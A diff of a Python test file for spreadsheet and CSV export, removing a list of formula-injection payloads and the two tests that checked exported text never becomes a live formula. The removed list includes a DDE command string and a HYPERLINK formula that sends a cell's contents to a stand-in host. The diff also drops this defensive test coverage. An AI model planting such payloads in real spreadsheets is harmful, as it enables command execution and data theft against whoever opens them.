@@ -1,9 +1,7 @@
 from __future__ import annotations
 
-import csv
 import datetime as dt
 import io
-import zipfile
 from typing import Any
 
 import openpyxl
@@ -12,7 +10,6 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from fangxian.common.sheets import find_table, read_workbook, xlsxstream
-from fangxian.common.sheets.cleaning import clean_text
 from fangxian.common.sheets.writing import ExportColumn, guard, write_csv, write_rows
 
 COLUMNS = [
@@ -28,23 +25,6 @@ ROW = [
     3,
     dt.date(2020, 3, 5),
     dt.datetime.fromisoformat("2020-03-05T09:12"),
-]
-# From the corpora of OWASP and of real incidents.
-FORMULAS = [
-    "=1+1",
-    "=cmd|'/c calc'!A1",
-    '=HYPERLINK("http://example.invalid?x="&A1,"x")',
-    "+1+1",
-    "-1+1",
-    "@SUM(A1)",
-    "\t=1+1",
-    "\r=1+1",
-    "＝1+1",
-    "=1+1\n",
-    "{=1+1}",
-    "http://example.invalid/",
-    "<f>1+1</f>",
-    "</t></is></c><c><f>1</f></c>",
 ]
 
 
@@ -78,33 +58,6 @@ def test_what_is_written_is_read_again() -> None:
         dt.date(2020, 3, 5),
         dt.datetime.fromisoformat("2020-03-05T09:12"),
     ]
-
-
-@pytest.mark.parametrize("text", FORMULAS)
-def test_no_text_becomes_a_formula_in_excel(text: str) -> None:
-    data = written([[text, text]], [ExportColumn(text), ExportColumn("x", "number")], title=text)
-    with zipfile.ZipFile(io.BytesIO(data)) as archive:
-        xml = archive.read("xl/worksheets/sheet1.xml").decode()
-    assert "<f>" not in xml
-    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
-    assert {
-        cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None
-    } == {"inlineStr"} or all(
-        cell.data_type in ("s", "inlineStr")
-        for row in sheet.iter_rows()
-        for cell in row
-        if cell.value is not None
-    )
-    assert read_workbook(data).sheets[0].rows[2][0] == text
-
-
-@pytest.mark.parametrize("text", FORMULAS)
-def test_no_text_becomes_a_formula_in_a_text_file(text: str) -> None:
-    out = io.BytesIO()
-    write_csv(out, [ExportColumn("姓名"), ExportColumn("备注")], [[text, "x"]])
-    cells = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))[1]
-    assert cells[0][0] not in "=+-@\t\r＝"
-    assert clean_text(cells[0]) == clean_text(text)
 
 
 def test_text_files_keep_long_numbers_and_the_bom() -> None:
